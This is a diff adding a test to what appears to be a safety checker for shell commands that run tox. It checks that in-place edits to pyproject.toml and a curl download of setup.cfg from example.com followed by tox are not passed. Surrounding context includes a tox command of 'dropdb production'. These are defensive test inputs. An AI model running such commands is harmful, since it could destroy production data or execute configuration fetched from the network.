@@ -141,6 +141,15 @@ describe('tox runs the commands of its configuration, wherever it is', () => {
     expect(r.text).toContain('tox.toml:2');
   }, 30_000);
 
+  it('an in-place edit of pyproject.toml is judged when tox runs: later from disk, in the same line unknown', async () => {
+    const cwd = repo({ 'pyproject.toml': '[project]\nname = "x"\ndependencies = ["aws-sam-translator==1.0"]\n' });
+    expect((await judge('sed -i "s/aws-sam-translator==$OLD/aws-sam-translator==$NEW/g" pyproject.toml', cwd)).verdict).toBe('pass');
+    const r = await judge('sed -i "s/pytest/x/" pyproject.toml && tox', cwd);
+    expect(r.verdict).not.toBe('pass');
+    expect(r.text).toMatch(/pyproject\.toml is written earlier in this command/);
+    expect((await judge('curl -sSfo setup.cfg https://example.com/setup.cfg; python -m tox', cwd)).verdict).not.toBe('pass');
+  }, 30_000);
+
   it('a pyproject.toml written by the shell is judged on what it writes', async () => {
     const cwd = repo({ 'README.md': 'x\n' });
     const write = `cat > pyproject.toml <<'EOF'\n[tool.tox.env_run_base]\ncommands = [["dropdb", "production"]]\nEOF\ntox`;
